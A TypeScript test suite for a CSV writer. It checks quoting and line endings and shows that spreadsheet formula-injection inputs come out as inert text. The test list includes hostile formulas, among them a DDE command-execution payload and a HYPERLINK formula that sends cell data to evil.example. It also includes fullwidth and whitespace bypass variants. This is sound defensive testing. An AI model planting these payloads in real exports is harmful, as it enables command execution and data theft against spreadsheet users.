import { cellText, csv } from './csv';

const cell = (text: string) => csv([[text]]).slice(1, -2);

describe('A CSV file', () => {
  it('begins with the byte order mark, and ends each row with CR LF (RFC 4180, 2.1)', () => {
    expect(csv([['a', 'b'], ['c']])).toBe('\uFEFFa,b\r\nc\r\n');
  });

  const texts: [string, string][] = [
    ['golden retriever', 'golden retriever'],
    ['dog, brown', '"dog, brown"'],
    ['"Rex"', '"""Rex"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' spaced ', '" spaced "'],
    ['Zoë 🐶 猫', 'Zoë 🐶 猫'],
    ['', ''],
    ['249.99', '249.99'],
    ['2026-11-22 05:00:00', '2026-11-22 05:00:00'],
    ['anna+pets@example.org', 'anna+pets@example.org'],
  ];
  for (const [text, expected] of texts) {
    it(`holds ${JSON.stringify(text)} as ${JSON.stringify(expected)}`, () => {
      expect(cell(text)).toBe(expected);
    });
  }
});

/** The cells that a spreadsheet makes of a file, with the separator of its region. */
function spreadsheet(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const character = text.charAt(i);
    if (quoted && character === '"' && text[i + 1] === '"') cell += text.charAt(i++);
    else if (character === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (!quoted && (character === separator || character === '\r' || character === '\n')) {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  return [...cells, cell];
}

describe('A cell that would be a formula', () => {
  const attacks = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=cmd|"/c calc"!A0',
    '=HYPERLINK("https://evil.example/?"&A1,"Your receipt")',
    '"=1+1"',
    "'=1+1",
    'dog;=1+1',
    'dog; =1+1',
    'dog;"=1+1"',
    'dog,=1+1',
    'dog\t=1+1',
    'dog\r\n=1+1',
    '-@evil.example',
    '+1@evil.example',
  ];
  for (const attack of attacks) {
    for (const separator of [',', ';', '\t']) {
      it(`is text: ${JSON.stringify(attack)}, separated by ${JSON.stringify(separator)}`, () => {
        for (const read of spreadsheet(csv([['1', attack, 'end']]), separator)) {
          expect(read).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/u);
        }
      });
    }
  }

  it('has an apostrophe before it, as spreadsheets mark text', () => {
    expect(cell('=1+1')).toBe("'=1+1");
    expect(cell('\tcat')).toBe('"\'\tcat"');
  });
});

describe('The text of a cell', () => {
  for (const text of ['dog', '=dog', "'=dog", "''@dog", '"+dog', 'a;-b', "it's", "'dog'", '＝']) {
    it(`is ${text} again`, () => {
      const [written = ''] = spreadsheet(csv([[text]]), ',');
      expect(cellText(written)).toBe(text);
    });
  }
});
